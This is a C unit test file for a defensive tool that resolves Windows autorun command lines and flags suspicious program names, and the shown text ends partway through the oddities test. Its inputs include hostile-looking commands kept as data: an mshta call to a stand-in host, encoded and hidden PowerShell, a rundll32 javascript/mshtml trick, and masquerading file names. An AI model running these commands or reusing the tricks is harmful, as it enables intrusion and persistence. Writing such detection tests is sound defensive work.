/* SPDX-License-Identifier: Apache-2.0 */

/* What a command line starts, and what INI files say. The files that are there
 * are a table; what Windows would start is known from how CreateProcess, smss,
 * winlogon and the loader are documented to read such texts. */

#include <stdio.h>
#include <string.h>

#include <fett/autorun_files.h>
#include <fett/limits.h>
#include <fett/text.h>

#include "../../lib/autorun/defaults.h"
#include "tap.h"

static const char *const files[] = {
    "/Windows/explorer.exe",
    "/Windows/system32/calc.exe",
    "/Windows/system32/rundll32.exe",
    "/Windows/system32/autochk.exe",
    "/Windows/system32/cmd.exe",
    "/Windows/system32/drivers/a.sys",
    "/Windows/system/old.drv",
    "/Program Files/Evil/x y.exe",
    "/Program Files (x86)/b.exe",
    "/Users/bob/AppData/Roaming/r.exe",
    "/evil/a.exe",
    "/evil/two.dll",
    "/Windows/System32/Wbem/wmic.exe",
    "/Windows/System32/WindowsPowerShell/v1.0/powershell.exe",
    "/Windows/x.exe",
    "/Windows/dot...",
    "/tools/tool.exe",
    "/Users/bob/bin/own.exe",
    "/old/Windows/system32/calc.exe",
    "/old/evil/a.exe",
    "/old/Program Files/p.exe",
    "/W64/System32/rundll32.exe",
    "/W64/System32/both.dll",
    "/W64/System32/only64.exe",
    "/W64/System32/spool/print.dll",
    "/W64/System32/drivers/etc/e.exe",
    "/Program Files/b.exe",
    "/W64/SysWOW64/rundll32.exe",
    "/W64/SysWOW64/both.dll",
    "/W64/SysWOW64/only32.exe",
    "/W64/SysWOW64/drivers/d.exe",
    "/W64/SysWOW64/regedit.exe",
    "/W64/regedit.exe",
    "D:/apps/d.exe",
    "C:/Windows/system32/rundll32.exe",
    "C:/evil/two.dll",
};

static bool find(void *context, const char *path)
{
    (void)context;
    for (size_t i = 0; i < sizeof files / sizeof *files; i++)
        if (text_equal_nocase(files[i], path))
            return true;
    return false;
}

static bool app_path(void *context, const char *name, size_t size, struct buffer *text)
{
    (void)context;
    if (text_compare_nocase(name, size, "known.exe", 9) == 0)
        buffer_add_text(text, "\"C:\\Program Files\\Evil\\x y.exe\"");
    else if (text_compare_nocase(name, size, "lost.exe", 8) == 0)
        buffer_add_text(text, "C:\\lost\\lost.exe");
    else if (text_compare_nocase(name, size, "far.exe", 7) == 0)
        buffer_add_text(text, "E:\\far.exe");
    else
        return false;
    return true;
}

static const struct autorun_machine bob = {
    .windows = "/Windows", .profile = "/Users/bob", .drive = 'C', .find = find,
    .search = "%SystemRoot%\\system32;%SystemRoot%; \"C:\\tools\\\" ;%USERPROFILE%\\bin\\",
    .app_path = app_path
};
static const struct autorun_machine nobody = {
    .windows = "/Windows", .drive = 'C', .find = find
};
static const struct autorun_machine far = {
    .windows = "/Windows", .drive = 'C', .find = find, .search = "C:\\tools;E:\\tools"
};
static const struct autorun_machine unknown = { .windows = "", .drive = 'C', .find = find };

static const struct autorun_machine copied = {
    .windows = "/old/Windows", .find = find, .search = ""
};
static const struct autorun_machine moved = {
    .windows = "/old/Windows", .root = "/old", .profile = "/old/bob", .drive = 'D', .find = find
};

static const struct autorun_machine bits_64 = {
    .windows = "/W64", .drive = 'C', .find = find, .search = "C:\\W64\\system32", .has_wow64 = true
};
static const struct autorun_machine bits_32 = {
    .windows = "/W64", .drive = 'C', .find = find, .search = "C:\\W64\\system32", .has_wow64 = true,
    .wow64 = true
};
static const struct autorun_machine only_32 = {
    .windows = "/W64", .drive = 'C', .find = find, .search = "", .wow64 = true
};

static const struct autorun_machine drives = {
    .windows = "/Windows", .drive = 'C', .find = find, .search = "C:\\tools;D:\\apps",
    .drives = "DX"
};
/* Seen from the volume of another drive. */
static const struct autorun_machine from_d = {
    .windows = "C:/Windows", .root = "C:", .profile = "/bob", .drive = 'C', .find = find,
    .search = "", .drives = "CD"
};

/* All programs of a text as "path|state|arguments" with " + " between. */
static void starts(const struct autorun_machine *machine, enum autorun_list list,
                   const char *text, const char *expected)
{
    static const char *const states[] = { "found", "absent", "unknown" };
    struct autorun_program program = { .next = text };
    struct buffer got = BUFFER_INIT;

    while (program.next && autorun_resolve(machine, list, program.next, &program)) {
        if (got.length > 0)
            buffer_add_text(&got, " + ");
        buffer_add(&got, buffer_text(&program.path), program.path.length);
        buffer_add_format(&got, "|%s|%.*s", states[program.state], (int)program.arguments_size,
                          program.arguments);
        buffer_release(&program.path);
    }
    same_text(buffer_text(&got), expected, text);
    buffer_release(&got);
}

static void test_one(void)
{
    starts(&bob, AUTORUN_ONE, "C:\\evil\\a.exe -x", "/evil/a.exe|found|-x");
    starts(&bob, AUTORUN_ONE, "c:/evil/a.exe", "/evil/a.exe|found|");
    starts(&bob, AUTORUN_ONE, "\"C:\\Program Files\\Evil\\x y.exe\" -a",
           "/Program Files/Evil/x y.exe|found|-a");
    starts(&bob, AUTORUN_ONE, "C:\\Program Files\\Evil\\x y.exe -a",
           "/Program Files/Evil/x y.exe|found|-a");
    starts(&bob, AUTORUN_ONE, "\"C:\\evil\\a.exe", "/evil/a.exe|found|");
    starts(&bob, AUTORUN_ONE, "calc", "/Windows/system32/calc.exe|found|");
    starts(&bob, AUTORUN_ONE, "C:\\gone\\not there.exe -q",
           "/gone/not there.exe|absent|-q");
    starts(&bob, AUTORUN_ONE, "gone.exe", "gone.exe|absent|");
    starts(&bob, AUTORUN_ONE, "  ", "");
    starts(&bob, AUTORUN_ONE, "", "");
    starts(&bob, AUTORUN_ONE, "C:\\evil\\..\\evil\\.\\a.exe", "/evil/a.exe|found|");
    starts(&bob, AUTORUN_ONE, "C:\\..\\..\\evil\\a.exe", "/evil/a.exe|found|");
    starts(&bob, AUTORUN_ONE, "\\??\\C:\\evil\\a.exe", "/evil/a.exe|found|");
    starts(&bob, AUTORUN_ONE, "\\SystemRoot\\system32\\drivers\\a.sys",
           "/Windows/system32/drivers/a.sys|found|");
    starts(&bob, AUTORUN_ONE, "system32\\drivers\\a.sys",
           "/Windows/system32/drivers/a.sys|found|");
}

static void test_variables(void)
{
    starts(&bob, AUTORUN_ONE, "%SYSTEMROOT%\\explorer.exe", "/Windows/explorer.exe|found|");
    starts(&bob, AUTORUN_ONE, "%ComSpec% /c x", "/Windows/x.exe|found|");
    starts(&bob, AUTORUN_ONE, "%ProgramFiles(x86)%\\b.exe", "/Program Files (x86)/b.exe|found|");
    starts(&bob, AUTORUN_ONE, "%ProgramFiles%\\b.exe", "/Program Files/b.exe|found|");
    starts(&bits_32, AUTORUN_ONE, "%ProgramFiles%\\b.exe", "/Program Files (x86)/b.exe|found|");
    starts(&bits_32, AUTORUN_ONE, "%ProgramW6432%\\b.exe", "/Program Files/b.exe|found|");
    starts(&bob, AUTORUN_ONE, "%APPDATA%\\r.exe", "/Users/bob/AppData/Roaming/r.exe|found|");
    starts(&bob, AUTORUN_ONE, "%APPDATA%\\s.exe", "%APPDATA%\\s.exe|unknown|");
    starts(&nobody, AUTORUN_ONE, "%APPDATA%\\r.exe", "%APPDATA%\\r.exe|unknown|");
    starts(&bob, AUTORUN_ONE, "%NOBODY_KNOWS%\\r.exe", "%NOBODY_KNOWS%\\r.exe|unknown|");
    starts(&bob, AUTORUN_ONE, "C:\\%NOBODY_KNOWS%\\r.exe", "C:\\%NOBODY_KNOWS%\\r.exe|unknown|");
    starts(&bob, AUTORUN_ONE, "%", "%|unknown|");
    starts(&bob, AUTORUN_ONE, "E:\\evil\\a.exe", "E:\\evil\\a.exe|unknown|");
    starts(&bob, AUTORUN_ONE, "C:a.exe", "C:a.exe|unknown|");
    starts(&bob, AUTORUN_ONE, "\\\\server\\share\\a.exe", "\\\\server\\share\\a.exe|unknown|");
    starts(&bob, AUTORUN_ONE, "*vshare", "*vshare|unknown|");
    starts(&unknown, AUTORUN_ONE, "calc.exe", "calc.exe|unknown|");
    starts(&unknown, AUTORUN_ONE, "evil\\a.exe", "evil\\a.exe|unknown|");
    starts(&unknown, AUTORUN_ONE, "%SystemRoot%\\evil\\a.exe",
           "%SystemRoot%\\evil\\a.exe|unknown|");
    starts(&unknown, AUTORUN_ONE, "\\SystemRoot\\evil\\a.exe",
           "\\SystemRoot\\evil\\a.exe|unknown|");
    starts(&unknown, AUTORUN_ONE, "C:\\evil\\a.exe", "/evil/a.exe|found|");
}

/* Names of the object manager that lead out of every tree, or to no tree by name. */
static void test_namespaces(void)
{
    static const char *const outside[] = {
        "\\??\\UNC\\evil\\a.exe", "\\\\?\\UNC\\evil\\a.exe",
        "\\Device\\HarddiskVolume1\\evil\\a.exe", "\\??\\GLOBALROOT\\Device\\a.exe",
        "\\??\\Volume{e1a82db3-a9f0-11e7-b142-806e6f6e6963}\\evil\\a.exe",
        "\\GLOBAL??\\C:\\evil\\a.exe", "\\\\.\\pipe\\a.exe",
    };

    for (size_t i = 0; i < sizeof outside / sizeof *outside; i++) {
        char expected[128];
        snprintf(expected, sizeof expected, "%s|unknown|", outside[i]);
        starts(&bob, AUTORUN_ONE, outside[i], expected);
    }
    starts(&bob, AUTORUN_ONE, "\\DosDevices\\C:\\evil\\a.exe", "/evil/a.exe|found|");
    starts(&bob, AUTORUN_ONE, "\\\\?\\C:\\evil\\a.exe", "/evil/a.exe|found|");
    starts(&bob, AUTORUN_ONE, "\\??\\E:\\evil\\a.exe", "\\??\\E:\\evil\\a.exe|unknown|");
}

/* A name without a folder: PATH as Windows 7 has it by default, the machine's own,
 * the user's, then App Paths. */
static void test_search(void)
{
    starts(&bob, AUTORUN_ONE, "powershell.exe -w hidden",
           "/Windows/system32/WindowsPowerShell/v1.0/powershell.exe|found|-w hidden");
    starts(&bob, AUTORUN_ONE, "powershell -enc x",
           "/Windows/system32/WindowsPowerShell/v1.0/powershell.exe|found|-enc x");
    starts(&nobody, AUTORUN_ONE, "wmic os", "/Windows/system32/Wbem/wmic.exe|found|os");
    starts(&bob, AUTORUN_ONE, "tool", "/tools/tool.exe|found|");
    starts(&bob, AUTORUN_ONE, "own.exe", "/Users/bob/bin/own.exe|found|");
    starts(&bob, AUTORUN_ONE, "known -x", "/Program Files/Evil/x y.exe|found|-x");
    starts(&bob, AUTORUN_ONE, "lost.exe", "/lost/lost.exe|absent|");
    starts(&bob, AUTORUN_ONE, "far.exe -x", "far.exe|unknown|-x");
    starts(&nobody, AUTORUN_ONE, "known", "known|unknown|");
    /* Absent is what is in no folder that there is, and all are known. */
    starts(&nobody, AUTORUN_ONE, "gone.exe", "gone.exe|unknown|");
    starts(&far, AUTORUN_ONE, "tool.exe", "/tools/tool.exe|found|");
    starts(&far, AUTORUN_ONE, "gone.exe", "gone.exe|unknown|");
    starts(&bob, AUTORUN_ONE, "sub\\gone.exe", "sub\\gone.exe|unknown|");
    starts(&bob, AUTORUN_ONE, "system32\\drivers\\b.sys", "/Windows/system32/drivers/b.sys|absent|");
}

/* What Win32 takes from names: a period from the end of a part, all periods and
 * blanks from the end of the name; nothing behind \\?\ (Microsoft, "File path formats
 * on Windows systems", trim characters). */
static void test_trimmed(void)
{
    starts(&bob, AUTORUN_ONE, "C:\\Windows\\x.exe.", "/Windows/x.exe|found|");
    starts(&bob, AUTORUN_ONE, "\"C:\\Windows\\x.exe. . \" -x", "/Windows/x.exe|found|-x");
    starts(&bob, AUTORUN_ONE, "C:\\Windows.\\x.exe", "/Windows/x.exe|found|");
    starts(&bob, AUTORUN_ONE, "C:\\Windows..\\x.exe", "/Windows../x.exe|absent|");
    starts(&bob, AUTORUN_ONE, "x.exe.", "/Windows/x.exe|found|");
    starts(&bob, AUTORUN_ONE, "x.", "x|absent|"); /* no ending is added */
    starts(&bob, AUTORUN_ONE, "\\\\?\\C:\\Windows\\x.exe.", "/Windows/x.exe.|absent|");
    starts(&bob, AUTORUN_ONE, "\\\\?\\C:\\Windows\\dot...", "/Windows/dot...|found|");
    starts(&bob, AUTORUN_ONE, "C:\\Windows\\dot...", "/Windows/dot|absent|");
}

/* Variables that the hives of a machine and of a user have. */
static void test_hive_variables(void)
{
    struct autorun_variables *of_machine = autorun_variables_new();
    struct autorun_variables *of_user = autorun_variables_new();
    struct autorun_machine machine = bob;
    char name[16];
    bool failed = false;

    machine.variables = of_machine;
    machine.user_variables = of_user;
    autorun_variables_add(of_machine, "ProgramFiles", 12, "C:\\evil");
    autorun_variables_add(of_machine, "TMP", 3, "%SystemRoot%");
    autorun_variables_add(of_machine, "both", 4, "C:\\tools");
    autorun_variables_add(of_user, "BOTH", 4, "C:\\none");
    autorun_variables_add(of_user, "Both", 4, "%ProgramFiles%");
    starts(&machine, AUTORUN_ONE, "%programfiles%\\a.exe", "/evil/a.exe|found|");
    starts(&machine, AUTORUN_ONE, "%ProgramFiles%\\gone.exe", "/evil/gone.exe|absent|");
    starts(&machine, AUTORUN_ONE, "%both%\\a.exe", "/evil/a.exe|found|");
    /* The machine's is not the user's, but nobody's where no user is known. */
    starts(&machine, AUTORUN_ONE, "%TMP%\\x.exe", "%TMP%\\x.exe|unknown|");
    machine.profile = NULL;
    starts(&machine, AUTORUN_ONE, "%TMP%\\x.exe", "/Windows/x.exe|found|");
    starts(&machine, AUTORUN_ONE, "%TMP%\\gone.exe", "%TMP%\\gone.exe|unknown|");

    /* Each stands for the next one twice: it ends. */
    for (char c = 'a'; c < 'z'; c++) {
        char text[] = { '%', (char)(c + 1), '%', '%', (char)(c + 1), '%', '\0' };
        autorun_variables_add(of_user, &c, 1, text);
    }
    starts(&machine, AUTORUN_ONE, "%a%", "%a%|unknown|");
    for (int i = 0; i < LIMIT_VARIABLES + 5; i++) {
        snprintf(name, sizeof name, "v%d", i);
        failed |= autorun_variables_add(of_user, name, strlen(name), "x") != 0;
    }
    ok(!failed && autorun_variables_find(of_user, "V7", 2) != NULL, "one of many");
    ok(autorun_variables_find(of_user, name, strlen(name)) == NULL, "too many");
    ok(autorun_variables_find(NULL, "a", 1) == NULL, "none at all");
    autorun_variables_free(of_machine);
    autorun_variables_free(of_user);
    autorun_variables_free(NULL);
}

/* A Windows that lies elsewhere than where it ran: what is its own is looked for
 * there, and of nothing is known that it is absent. */
static void test_moved(void)
{
    struct buffer path = BUFFER_INIT;

    starts(&moved, AUTORUN_ONE, "calc", "/old/Windows/system32/calc.exe|found|");
    starts(&moved, AUTORUN_ONE, "%windir%\\system32\\calc.exe",
           "/old/Windows/system32/calc.exe|found|");
    starts(&moved, AUTORUN_ONE, "D:\\evil\\a.exe", "/old/evil/a.exe|found|");
    starts(&moved, AUTORUN_ONE, "\\evil\\a.exe", "/old/evil/a.exe|found|");
    starts(&moved, AUTORUN_ONE, "%ProgramFiles%\\p.exe", "/old/Program Files/p.exe|found|");
    starts(&moved, AUTORUN_ONE, "%SystemDrive%\\evil\\a.exe", "/old/evil/a.exe|found|");
    starts(&moved, AUTORUN_ONE, "D:\\evil\\two.dll", "D:\\evil\\two.dll|unknown|");
    starts(&moved, AUTORUN_ONE, "C:\\evil\\a.exe", "C:\\evil\\a.exe|unknown|");
    starts(&copied, AUTORUN_ONE, "calc", "/old/Windows/system32/calc.exe|found|");
    starts(&copied, AUTORUN_ONE, "gone", "gone|unknown|");
    starts(&copied, AUTORUN_ONE, "C:\\evil\\a.exe", "C:\\evil\\a.exe|unknown|");
    starts(&copied, AUTORUN_ONE, "\\evil\\a.exe", "\\evil\\a.exe|unknown|");
    starts(&copied, AUTORUN_ONE, "%ProgramFiles%\\x.exe", "%ProgramFiles%\\x.exe|unknown|");

    ok(autorun_path(&moved, "%SystemRoot%\\Profiles\\bob", 25, &path, NULL),
       "a path with a variable");
    same_text(buffer_text(&path), "/old/Windows/Profiles/bob", "is told");
    ok(!autorun_path(&moved, "C:\\Users\\bob", 12, &path, NULL), "on another drive it is not");
    ok(!autorun_path(&moved, "bob", 3, &path, NULL), "nor is a name without a folder");
    buffer_release(&path);
}

/* Letters of other volumes that can be asked. */
static void test_drives(void)
{
    starts(&drives, AUTORUN_ONE, "d:\\apps\\d.exe -x", "D:/apps/d.exe|found|-x");
    starts(&drives, AUTORUN_ONE, "D:\\..\\.\\apps\\..\\apps\\d.exe", "D:/apps/d.exe|found|");
    starts(&drives, AUTORUN_ONE, "\\??\\D:\\apps\\d.exe", "D:/apps/d.exe|found|");
    starts(&drives, AUTORUN_ONE, "D:\\apps\\gone.exe", "D:/apps/gone.exe|absent|");
    starts(&drives, AUTORUN_ONE, "D:apps\\d.exe", "D:apps\\d.exe|unknown|");
    starts(&drives, AUTORUN_ONE, "d.exe", "D:/apps/d.exe|found|");
    starts(&drives, AUTORUN_ONE, "gone.exe", "gone.exe|absent|");
    starts(&drives, AUTORUN_ONE, "E:\\apps\\d.exe", "E:\\apps\\d.exe|unknown|");
    starts(&drives, AUTORUN_ONE, "C:\\evil\\a.exe", "/evil/a.exe|found|");
    starts(&from_d, AUTORUN_ONE, "C:\\evil\\two.dll", "C:/evil/two.dll|found|");
    starts(&from_d, AUTORUN_ONE, "rundll32 \\evil\\two.dll,Go", "C:/evil/two.dll|found|Go");
    starts(&from_d, AUTORUN_ONE, "%SystemRoot%\\gone.exe", "C:/Windows/gone.exe|absent|");
    starts(&from_d, AUTORUN_ONE, "%SystemDrive%\\..\\evil\\two.dll", "C:/evil/two.dll|found|");
    starts(&from_d, AUTORUN_ONE, "%USERPROFILE%\\a.exe", "/bob/a.exe|absent|");
}

/* Programs of 32 bits on a Windows of 64 (Microsoft, "File System Redirector"). */
static void test_redirected(void)
{
    starts(&bits_64, AUTORUN_ONE, "C:\\W64\\System32\\both.dll", "/W64/System32/both.dll|found|");
    starts(&bits_32, AUTORUN_ONE, "C:\\W64\\System32\\both.dll", "/W64/SysWOW64/both.dll|found|");
    starts(&bits_32, AUTORUN_ONE, "%SystemRoot%\\system32\\drivers\\d.exe",
           "/W64/SysWOW64/drivers/d.exe|found|");
    starts(&bits_32, AUTORUN_LIBRARY, "both", "/W64/SysWOW64/both.dll|found|");
    starts(&bits_64, AUTORUN_LIBRARY, "both", "/W64/system32/both.dll|found|");
    starts(&bits_32, AUTORUN_ONE, "only32", "/W64/SysWOW64/only32.exe|found|");
    starts(&bits_64, AUTORUN_ONE, "only32", "only32|absent|");
    /* There is no second try. */
    starts(&bits_32, AUTORUN_ONE, "C:\\W64\\System32\\only64.exe -x",
           "/W64/SysWOW64/only64.exe|absent|-x");
    starts(&bits_64, AUTORUN_ONE, "C:\\W64\\SysWOW64\\only64.exe",
           "/W64/SysWOW64/only64.exe|absent|");
    /* Folders that both have. */
    starts(&bits_32, AUTORUN_LIBRARY, "C:\\W64\\system32\\spool\\print.dll",
           "/W64/system32/spool/print.dll|found|");
    starts(&bits_32, AUTORUN_ONE, "C:\\W64\\system32\\drivers\\etc\\e.exe",
           "/W64/system32/drivers/etc/e.exe|found|");
    starts(&bits_32, AUTORUN_ONE, "C:\\W64\\system32\\catroot2\\x.dll",
           "/W64/system32/catroot2/x.dll|absent|");
    /* One file of Windows' folder itself, and the way back. */
    starts(&bits_32, AUTORUN_ONE, "C:\\W64\\regedit.exe", "/W64/SysWOW64/regedit.exe|found|");
    starts(&bits_64, AUTORUN_ONE, "C:\\W64\\regedit.exe", "/W64/regedit.exe|found|");
    starts(&bits_32, AUTORUN_ONE, "%windir%\\sysnative\\only64.exe",
           "/W64/System32/only64.exe|found|");
    starts(&bits_64, AUTORUN_ONE, "%windir%\\SysNative\\only64.exe",
           "/W64/System32/only64.exe|found|");
    /* What the starter starts has the bits of the folder that it is in. */
    starts(&bits_64, AUTORUN_ONE, "C:\\W64\\SysWOW64\\rundll32.exe both.dll,Go",
           "/W64/SysWOW64/both.dll|found|Go");
    starts(&bits_64, AUTORUN_ONE, "C:\\W64\\SysWOW64\\rundll32 C:\\W64\\System32\\both.dll,Go",
           "/W64/SysWOW64/both.dll|found|Go");
    starts(&bits_64, AUTORUN_ONE, "rundll32 both.dll,Go", "/W64/system32/both.dll|found|Go");
    starts(&bits_32, AUTORUN_ONE, "rundll32 both.dll,Go", "/W64/SysWOW64/both.dll|found|Go");
    starts(&bits_32, AUTORUN_ONE, "C:\\W64\\Sysnative\\rundll32.exe both.dll,Go",
           "/W64/system32/both.dll|found|Go");
    /* A Windows of 32 bits has no second folder. */
    starts(&only_32, AUTORUN_ONE, "C:\\W64\\System32\\only64.exe",
           "/W64/System32/only64.exe|found|");
}

/* Where a name that is nowhere ends. */
static void test_ends(void)
{
    starts(&bob, AUTORUN_ONE, "C:\\no\\a,b.exe -x", "/no/a,b.exe|absent|-x");
    starts(&bob, AUTORUN_ONE, "C:\\no\\my notes.lnk -x", "/no/my notes.lnk|absent|-x");
    starts(&bob, AUTORUN_ONE, "C:\\no\\my job.ps1 -x", "/no/my job.ps1|absent|-x");
    starts(&bob, AUTORUN_ONE, "C:\\no\\my job.js -x", "/no/my job.js|absent|-x");
    starts(&bob, AUTORUN_ONE, "C:\\no\\my job.json -x", "/no/my|absent|job.json -x");
    starts(&bob, AUTORUN_NAMES, "'C:\\evil\\a.exe' C:\\evil\\a.exe",
           "/evil/a.exe|found| + /evil/a.exe|found|");
}

static void test_lists(void)
{
    starts(&bob, AUTORUN_COMMANDS, "C:\\Windows\\system32\\calc.exe,C:\\evil\\a.exe -x,",
           "/Windows/system32/calc.exe|found| + /evil/a.exe|found|-x");
    starts(&bob, AUTORUN_COMMANDS, "Explorer.exe C:\\evil\\a.exe",
           "/Windows/Explorer.exe|found|C:\\evil\\a.exe + /evil/a.exe|found|"); /* as written */
    starts(&bob, AUTORUN_COMMANDS, "\"C:\\evil\\a.exe\",,", "/evil/a.exe|found|");
    starts(&bob, AUTORUN_NAMES, "calc.exe C:\\evil\\two.dll, old.drv",
           "/Windows/system32/calc.exe|found| + /evil/two.dll|found| + "
           "/Windows/system/old.drv|found|");
    starts(&bob, AUTORUN_NAMES, "gone.dll calc", "gone.dll|absent| + "
                                                 "/Windows/system32/calc.exe|found|");
    starts(&bob, AUTORUN_NAMES, " , ", "");
    starts(&bob, AUTORUN_NATIVE, "autocheck autochk *", "/Windows/system32/autochk.exe|found|*");
    starts(&bob, AUTORUN_NATIVE, "autochk", "/Windows/system32/autochk.exe|found|");
}

static void test_patterns(void)
{
    const char *patterns = "explorer.exe|?:\\windows\\x.exe|autochk ^*";

    ok(autorun_matches(patterns, "Explorer.EXE", 12), "without case");
    ok(autorun_matches(patterns, "C:\\Windows\\x.exe", 16), "any drive");
    ok(!autorun_matches(patterns, "C:\\evil\\windows\\x.exe", 21), "no other folder");
    ok(autorun_matches(patterns, "autochk *", 9), "a star that is meant");
    ok(!autorun_matches(patterns, "autochk evil", 12), "is no pattern");
    ok(autorun_matches("!0|1", "2", 1) && !autorun_matches("!0|1", "1", 1), "none of them");
    ok(autorun_matches("", "", 0) && !autorun_matches("", "x", 1), "nothing");
    ok(autorun_matches("|x", "", 0) && autorun_matches("|x", "X", 1), "nothing or one");
}

/* What Windows NT ships in Winlogon's Shell and as a service. */
static bool is_default(const char *row, const char *identity, const char *text)
{
    const struct autorun autorun = { .row = row, .identity = identity };

    return autorun_is_default(&autorun, text, strlen(text));
}

static void test_defaults(void)
{
    const struct autorun line = { .defaults = "explorer.exe" };

    ok(autorun_is_default(&line, "Explorer.exe", 12), "of a file");
    ok(!autorun_is_default(&line, "evil.exe", 8), "not of a file");
    ok(is_default("winlogon-userinit", "Userinit", "userinit.exe"), "a name");
    ok(is_default("winlogon-userinit", "Userinit", "C:\\WINDOWS\\system32\\userinit.exe"),
       "in the folder of the system");
    ok(is_default("winlogon-userinit", "Userinit", "\"%SystemRoot%\\System32\\USERINIT.exe\""),
       "quoted, with a variable");
    ok(!is_default("winlogon-userinit", "Userinit", "C:\\WINDOWS\\userinit.exe"),
       "another folder of Windows");
    ok(!is_default("winlogon-userinit", "Userinit", "C:\\evil\\system32\\userinit.exe"),
       "another folder of this name");
    ok(!is_default("winlogon-shell", "Shell", "userinit.exe"), "of another row");
    ok(is_default("service", "AudioSrv", "%SystemRoot%\\System32\\audiosrv.dll"), "a service");
    ok(!is_default("service", "AudioSrv", "%SystemRoot%\\System32\\evil.dll"), "another library");
    ok(!is_default("service", "Audio", "%SystemRoot%\\System32\\audiosrv.dll"), "another name");
}

/* The table is searched by halves. */
static void test_services_sorted(void)
{
    size_t count, driver_count, wrong = 0;
    const struct shipped_service *services = shipped_services(&count);
    const char *const *drivers = shipped_drivers(&driver_count);

    for (size_t i = 1; i < count; i++)
        if (text_compare_nocase(services[i - 1].name, strlen(services[i - 1].name),
                                services[i].name, strlen(services[i].name)) >= 0)
            wrong++;
    for (size_t i = 1; i < driver_count; i++)
        if (text_compare_nocase(drivers[i - 1], strlen(drivers[i - 1]), drivers[i],
                                strlen(drivers[i])) >= 0)
            wrong++;
    ok(wrong == 0, "services and drivers are sorted, none twice");
}

/* Windows' own programs that start others, and others of their names. */
static void test_hosts(void)
{
    starts(&bob, AUTORUN_ONE, "rundll32.exe C:\\evil\\two.dll,Start now",
           "/evil/two.dll|found|Start now");
    starts(&bob, AUTORUN_ONE, "rundll32 \"C:\\evil\\two.dll\",Start", "/evil/two.dll|found|Start");
    starts(&bob, AUTORUN_ONE, "rundll32 C:\\evil\\two Start", "/evil/two.dll|found|Start");
    starts(&bob, AUTORUN_ONE, "C:\\Windows\\system32\\rundll32.exe C:\\gone\\no.dll,Go",
           "/gone/no.dll|absent|Go");
    starts(&bob, AUTORUN_ONE, "C:\\evil\\rundll32.exe C:\\evil\\two.dll,Start",
           "/evil/rundll32.exe|absent|C:\\evil\\two.dll,Start");
    starts(&bob, AUTORUN_ONE, "rundll32 shell32.dll,Control_RunDLL C:\\evil\\a.exe",
           "/evil/a.exe|found|");
    starts(&bob, AUTORUN_ONE, "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"",
           "/Windows/system32/rundll32.exe|found|javascript:\"\\..\\mshtml,RunHTMLApplication\"");
    starts(&bob, AUTORUN_ONE, "rundll32.exe", "/Windows/system32/rundll32.exe|found|");
    starts(&bob, AUTORUN_ONE, "regsvr32 /s C:\\evil\\two.dll", "/evil/two.dll|found|/s");
    starts(&bob, AUTORUN_ONE, "cmd /c C:\\evil\\a.exe -x", "/evil/a.exe|found|-x");
    starts(&bob, AUTORUN_ONE, "cmd.exe /q /cstart \"title\" /min C:\\evil\\a.exe -x",
           "/evil/a.exe|found|-x");
    starts(&bob, AUTORUN_ONE, "%ComSpec% /c \"C:\\Program Files\\Evil\\x y.exe\" -a",
           "/Program Files/Evil/x y.exe|found|-a");
    starts(&bob, AUTORUN_ONE, "cmd /c del C:\\evil\\a.exe",
           "/Windows/system32/cmd.exe|found|/c del C:\\evil\\a.exe");
    starts(&bob, AUTORUN_ONE, "cmd /c rundll32 C:\\evil\\two.dll,Start",
           "/evil/two.dll|found|Start");
    starts(&bob, AUTORUN_ONE, "mshta http://evil.example/x", "mshta|absent|http://evil.example/x");
    starts(&bob, AUTORUN_ONE, "wscript.exe //b C:\\evil\\a.exe", "/evil/a.exe|found|//b");
    starts(&bob, AUTORUN_ONE, "powershell -nop -File C:\\evil\\a.exe 1", "/evil/a.exe|found|1");
    starts(&bob, AUTORUN_ONE, "powershell -enc AAAA",
           "/Windows/system32/WindowsPowerShell/v1.0/powershell.exe|found|-enc AAAA");
    starts(&bob, AUTORUN_LIBRARY, "C:\\Program Files\\Evil\\x y.exe",
           "/Program Files/Evil/x y.exe|found|");
    starts(&bob, AUTORUN_LIBRARY, "C:\\evil\\two", "/evil/two.dll|found|");
    starts(&bob, AUTORUN_LIBRARY, "calc", "calc|absent|");
    starts(&bob, AUTORUN_DRIVER, "a", "/Windows/System32/drivers/a.sys|found|");
    starts(&bob, AUTORUN_PARTS, "C:\\evil\\two.dll|Go|1", "/evil/two.dll|found|Go|1");
    starts(&bob, AUTORUN_PARTS, "||C:\\evil\\a.exe -x", "/evil/a.exe|found|-x");
    starts(&bob, AUTORUN_NOTHING, "C:\\evil\\a.exe", "");
}

static const struct autorun_file ini_file = { .kind = AUTORUN_INI };

/* What is said of a program at a path, with " + " between. */
static void odd(const char *path, const char *expected)
{
    const char *texts[AUTORUN_MOST_ODDITIES];
    const struct autorun autorun = { .name = "x", .name_length = 1 };
    struct autorun_program program = { .arguments = "" };
    struct buffer got = BUFFER_INIT;

    buffer_add_text(&program.path, path);
    size_t count = autorun_oddities(&autorun, &program, *path == '/' ? "/Windows" : "", texts);
    for (size_t i = 0; i < count; i++)
        buffer_add_format(&got, "%s%s", i > 0 ? " + " : "", texts[i]);
    same_text(buffer_text(&got), expected, path);
    buffer_release(&got);
    buffer_release(&program.path);
}

static void test_oddities(void)
{
    static const char elsewhere[] = "its program has a name of Windows' own, but lies elsewhere";
    static const char blanks[] = "its program's name hides its ending behind blanks";
    static const char twofold[] = "its program's name has two endings";

    odd("/Windows/system32/svchost.exe", "");
    odd("/Windows/SysWOW64/svchost.exe", "");
    odd("/Windows/explorer.exe", "");
    odd("%SystemRoot%\\System32\\svchost.exe", "");
    odd("system32\\svchost.exe", "");
    odd("C:\\Windows\\system32\\svchost.exe", "");
    odd("\\??\\C:\\WINDOWS\\system32\\csrss.exe", "");
    odd("svchost.exe", "");
    odd("/Windows/svchost.exe", elsewhere);
    odd("C:\\Windows\\svchost.exe", elsewhere);
    odd("/evil/system32/svchost.exe", elsewhere);
    odd("/Windows/system32/explorer.exe", "");
    odd("/Windows/system32/scvhost.exe", "its program's name is like svchost.exe, but is not");
    odd("/Windows/system32/1sass.exe", "its program's name is like lsass.exe, but is not");
    odd("/Windows/system32/service.exe", "its program's name is like services.exe, but is not");
    odd("/Windows/system32/dllhost/svchost.exe",
        "its program has a name of Windows' own, but lies elsewhere");
    odd("/Windows/system32/dllcache/svchost.exe", "");
    odd("/Windows/system32/taskhostw.exe", "");
    odd("/Windows/system32/calc.exe", "");
    odd("/OFFER2001.ZIP                    .EXE", blanks);
    odd("/holiday.jpg.exe", twofold);
    odd("/archive.tar.exe", "");
    odd("/\u202excod.exe", "its program's name changes the direction of writing");
